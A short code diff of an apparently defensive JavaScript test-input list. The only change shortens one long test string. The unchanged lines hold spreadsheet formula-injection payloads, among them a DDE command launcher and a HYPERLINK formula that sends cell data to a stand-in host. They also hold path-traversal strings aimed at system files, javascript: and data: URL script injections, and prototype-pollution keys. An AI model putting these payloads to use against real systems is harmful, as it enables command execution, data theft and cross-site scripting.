@@ -42,7 +42,7 @@ const MARKUP = [
 const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "undefined", "NaN", "-0", "true", "[object Object]"];
 const FORMULAS = ["=1+1", "=HYPERLINK(\"https://hostile.invalid/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "=\"a\",\"b\"\n=1"];
 const PATHS = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "C:\\nul", "con", "a/b\0.geojson"];
-const SIGNS = ["شہر \u202eelbuod\u202c", "\u2066a\u2069\u200b\u200d\ufeffb", "\ud800 alone", "👩‍👩‍👧‍👦🇮🇷", "Z̸̧̛͓̹͇a̵͎̿l̴̰͂g̶̙̈ơ̷", "ａ\u0000b\u0007c\u001b[31m", "a".repeat(20_000), "line\nbreak\r\nand\ttab", "﷽"];
+const SIGNS = ["شہر \u202eelbuod\u202c", "\u2066a\u2069\u200b\u200d\ufeffb", "\ud800 alone", "👩‍👩‍👧‍👦🇮🇷", "Z̸̧̛͓̹͇a̵͎̿l̴̰͂g̶̙̈ơ̷", "ａ\u0000b\u0007c\u001b[31m", "a".repeat(400), "line\nbreak\r\nand\ttab", "﷽"];
 export const ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://hostile.invalid/1", "//hostile.invalid/", "https://hostile.invalid/\"onmouseover=\"alert(1)", "https://user:word@hostile.invalid/<script>alert(1)</script>"];
 
 /** More texts for a check by hand: SARHAD_STRINGS names files, parted by commas, of a JSON array of texts or of one text a line. */
